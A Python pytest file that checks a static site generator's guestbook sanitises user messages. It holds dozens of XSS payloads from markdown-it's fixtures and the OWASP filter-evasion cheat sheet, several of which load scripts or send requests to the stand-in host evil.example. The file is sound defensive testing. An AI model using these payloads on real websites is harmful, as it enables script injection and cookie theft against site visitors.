"""Guestbook messages are written by strangers: known attacks, as messages, names and
places, must come out as harmless text.

The vectors are markdown-it's own XSS cases (test/fixtures/markdown-it/xss.txt in the
markdown-it repository, reproduced here) and the cases of the OWASP XSS Filter Evasion
Cheat Sheet, plus a few aimed at this site: template syntax, Markdown link tricks, and
HTML that mutates when a browser parses it. Two checks, on every page of the built site:

1. Parsing the HTML (html.parser): no script element, no event-handler attribute, no
   style, no embedded content, no URL with a dangerous scheme; inside a message only
   `p`, `br`, `em`, `strong` and `a` (http, https or mailto, with rel="nofollow ugc
   noopener").
2. Loading the pages in Debian's headless Chromium (Playwright): no dialog opens, no
   script runs (the payloads would set `window.__xss`), and no request leaves for any host
   but the site's own, even after every element in the guestbook gets mouse and focus
   events.
"""

from __future__ import annotations

import html
import json
import mimetypes
import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from browserpages import TIMEOUT_MS, chromium
from conftest import BASIC_CONFIG, SiteDir

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Route

# markdown-it's test/fixtures/markdown-it/xss.txt, one case per item.
MARKDOWN_IT_XSS = [
    "[normal link](javascript)",
    "[xss link](javascript:alert(1))",
    "[xss link](JAVASCRIPT:alert(1))",
    "[xss link](vbscript:alert(1))",
    "[xss link](VBSCRIPT:alert(1))",
    "[xss link](file:///123)",
    "[xss link](&#34;&#62;&#60;script&#62;alert&#40;&#34;xss&#34;&#41;&#60;/script&#62;)",
    "[xss link](&#74;avascript:alert(1))",
    "[xss link](&#x26;#74;avascript:alert(1))",
    "[xss link](\\&#74;avascript:alert(1))",
    "[xss link](<javascript:alert(1)>)",
    "[xss link](javascript&#x3A;alert(1))",
    "![](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)",
    "[xss link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)",
    "[normal link](/javascript:link)",
    "![xss link](javascript:alert(1))",
    "<javascript&#58;alert(1)>",
    "<javascript:alert(1)>",
    "javascript&#58;alert(1)",
    "javascript:alert(1)",
    "[test]: javascript:alert(1)\n\n[test]",
    "```js custom&#32;class\ntest1\n```",
    '<a href="javascript:alert(1)">xss</a>',
]

# The OWASP XSS Filter Evasion Cheat Sheet (hosts changed to evil.example).
OWASP = [
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
    "\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIw'
    "MDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3Nj"
    'cmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
    '<A HREF="//evil.example/">XSS</A>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
]

# Aimed at this site: Markdown links, mutation XSS, templates, payloads that report back.
OURS = [
    "[a](java\tscript:alert(1))",
    "[a](java%0ascript:alert(1))",
    "[a](  javascript:alert(1) )",
    '[a](javascript:alert(1) "title")',
    "[a](&#0;javascript:alert(1))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    '[a](https://example.org" onmouseover="alert(1))',
    '<https://example.org/"onmouseover="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "*<img src=x onerror=alert(1)>* **<svg onload=alert(1)>**",
    "[a](//evil.example/x) [b](\\\\evil.example/x) [c](https:evil.example)",
    "![tracker](https://evil.example/pixel.png)",
    "<script>window.__xss = 1; fetch('https://evil.example/ran')</script>",
    '<img src=x onerror="window.__xss = 1">',
    "[click](javascript:window.__xss=1)",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<x onclick=alert(1)>click me",
    "{{ constructor.constructor('alert(1)')() }} {% raw %} ${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe <b>right-to-left override</b>",
]

NAMES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "{{ 7*7 }}",
    "javascript:alert(1)",
]

VECTORS = MARKDOWN_IT_XSS + OWASP + OURS

SITE = "https://journal.example.org/"
DANGEROUS_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "img",
        "svg", "math", "video", "audio", "source", "base", "bgsound", "noscript", "xmp",
        "template", "details",
    }
)  # fmt: skip
"""Anywhere in a page (the theme itself uses none of them; inside a message even fewer
tags are allowed: MESSAGE_TAGS)."""
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
     "srcset", "dynsrc", "lowsrc", "cite", "content"}
)  # fmt: skip
MESSAGE_TAGS = frozenset({"p", "br", "em", "strong", "a"})


def build_attack_site(site: SiteDir) -> SiteDir:
    site.write("journalgen.yaml", BASIC_CONFIG + "guestbook:\n  page_size: 500\n")
    site.entry("2026-11-08-halfway.md", 'title: "Halfway"')
    for index, text in enumerate(VECTORS):
        name = NAMES[index % len(NAMES)]
        lines = [
            f"name: {json.dumps(name, ensure_ascii=False)}",
            f"date: 2026-11-{1 + index % 28:02d} {index % 24:02d}:00",
            "entry: halfway",
            f"location: {json.dumps(name, ensure_ascii=False)}",
            f"message: {json.dumps(text, ensure_ascii=False)}",
        ]
        site.write(f"content/guestbook/vector-{index:03d}.yaml", "\n".join(lines) + "\n")
    # All of them in one Markdown message too, where they can interact.
    site.write(
        "content/guestbook/all-together.md",
        "---\nname: All\ndate: 2026-11-30\nentry: halfway\n---\n\n" + "\n\n".join(VECTORS),
    )
    report = site.build()
    assert report.warnings == ()
    return site


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> SiteDir:
    return build_attack_site(SiteDir(tmp_path_factory.mktemp("xss") / "journal"))


class Audit(HTMLParser):
    """Everything dangerous in one page, and what is inside each message's text."""

    VOID = frozenset({"br", "img", "input", "meta", "link", "hr", "source", "embed", "base"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.message_links: list[dict[str, str | None]] = []
        self.stack: list[str] = []
        self.in_message = 0
        self.messages = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)
        if tag not in self.VOID:
            self.stack.append(tag)
            if self.in_message:
                self.in_message += 1
            elif tag == "div" and dict(attrs).get("class") == "gb-text":
                self.in_message = 1
                self.messages += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()
            if self.in_message:
                self.in_message -= 1

    def _tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"<{tag} {attrs}>"
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"dangerous element {where}")
        if tag == "meta" and any(k == "http-equiv" for k, _ in attrs):
            self.problems.append(f"meta http-equiv {where}")
        link = dict(attrs) if tag == "link" else {}
        if link.get("rel") == "stylesheet" and "/assets/" not in str(link.get("href")):
            self.problems.append(f"foreign stylesheet {where}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {where}")
            if name == "style":
                self.problems.append(f"style attribute {where}")
            if name in URL_ATTRIBUTES and value and dangerous_url(value):
                self.problems.append(f"dangerous URL {where}")
        if self.in_message:
            if tag not in MESSAGE_TAGS:
                self.problems.append(f"{tag} inside a message: {where}")
            allowed = {"a": {"href", "rel"}, "p": {"dir"}}.get(tag, set())
            if {name for name, _ in attrs} - allowed:
                self.problems.append(f"unexpected attribute inside a message: {where}")
            if tag == "a":
                self.message_links.append(dict(attrs))


def dangerous_url(value: str) -> bool:
    plain = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).casefold()
    plain = plain.split(";url=", 1)[-1]  # <meta content="0;url=…">
    return plain.startswith(("javascript:", "vbscript:", "data:", "livescript:", "mocha:"))


def audit(text: str) -> Audit:
    found = Audit()
    found.feed(text)
    found.close()
    return found


def test_no_script_handler_or_dangerous_url_in_any_built_page(attacked: SiteDir) -> None:
    pages = {rel: data for rel, data in attacked.output_files().items() if rel.endswith(".html")}
    assert len(pages) >= 5
    counted: dict[str, int] = {}
    for rel, data in pages.items():
        found = audit(data.decode("utf-8"))
        assert not found.problems, f"{rel}:\n" + "\n".join(found.problems[:20])
        for link in found.message_links:
            href = str(link.get("href"))
            assert urlsplit(href).scheme in ("http", "https", "mailto"), (rel, href)
            assert link.get("rel") == "nofollow ugc noopener", (rel, link)
        counted[rel] = found.messages
    # Every vector is on the entry page and on the guestbook page: none was dropped.
    assert counted["2026/11/halfway/index.html"] == len(VECTORS) + 1
    assert counted["guestbook/index.html"] == len(VECTORS) + 1


def test_raw_html_is_shown_as_the_text_it_is(attacked: SiteDir) -> None:
    entry = attacked.read("2026/11/halfway/index.html")
    assert "&lt;SCRIPT SRC=https://evil.example/xss.js&gt;&lt;/SCRIPT&gt;" in entry
    assert '&lt;img src=x onerror="window.__xss = 1"&gt;' in entry
    assert "[xss link](javascript:alert(1))" in entry  # markdown-it keeps it as text
    assert '<bdi class="gb-name">&lt;script&gt;alert(1)&lt;/script&gt;</bdi>' in entry
    assert "{{ constructor.constructor('alert(1)')() }} {% raw %} ${alert(1)}" in entry
    # The one allowed link among the vectors keeps its address, escaped inside the value.
    assert 'href="https://example.org/%22onmouseover=%22alert(1)"' in entry


def test_no_dialog_script_or_foreign_request_in_chromium(attacked: SiteDir) -> None:
    root = attacked.out
    host = urlsplit(SITE).netloc
    foreign: list[str] = []
    dialogs: list[str] = []

    with chromium() as browser:
        context = browser.new_context(java_script_enabled=True)
        page = context.new_page()
        page.set_default_timeout(TIMEOUT_MS)

        def serve(route: Route) -> None:
            url = route.request.url
            parts = urlsplit(url)
            if parts.scheme in ("http", "https") and parts.netloc == host:
                path = root / parts.path.lstrip("/")
                if path.is_dir():
                    path = path / "index.html"
                if path.is_file():
                    kind = mimetypes.guess_type(path.name)[0] or "application/octet-stream"
                    route.fulfill(status=200, body=path.read_bytes(), content_type=kind)
                else:
                    route.fulfill(status=404, body=b"not found")
                return
            foreign.append(url)
            route.abort()

        page.route("**/*", serve)

        def dialog(opened: Dialog) -> None:
            dialogs.append(opened.message)
            opened.dismiss()

        page.on("dialog", dialog)
        for rel in ("2026/11/halfway/", "guestbook/"):
            page.goto(SITE + rel, wait_until="load")
            title = page.title()
            page.evaluate(
                """() => {
                  for (const el of document.querySelectorAll('.guestbook *, .gb-messages *')) {
                    for (const type of ['mouseover', 'mouseenter', 'mousemove', 'focus',
                                        'animationstart', 'toggle']) {
                      el.dispatchEvent(new Event(type, {bubbles: true}));
                    }
                  }
                }"""
            )
            state = page.evaluate(
                """() => ({
                  ran: window.__xss !== undefined,
                  scripts: document.scripts.length,
                  handlers: [...document.querySelectorAll('*')].filter(el =>
                    [...el.attributes].some(a => a.name.startsWith('on'))).length,
                  embedded: document.querySelectorAll(
                    'img, iframe, object, embed, svg, math, video, audio, style, base'
                  ).length,
                  badLinks: [...document.querySelectorAll('[href], [src], [action]')]
                    .map(el => el.getAttribute('href') || el.getAttribute('src')
                               || el.getAttribute('action'))
                    .filter(u => /^\\s*(javascript|vbscript|data):/i.test(u)).length,
                  messages: document.querySelectorAll('.gb-message').length,
                })"""
            )
            assert state == {
                "ran": False,
                "scripts": 0,
                "handlers": 0,
                "embedded": 0,
                "badLinks": 0,
                "messages": len(VECTORS) + 1,
            }, rel
            assert page.title() == title
        context.close()
    assert dialogs == []
    assert foreign == []
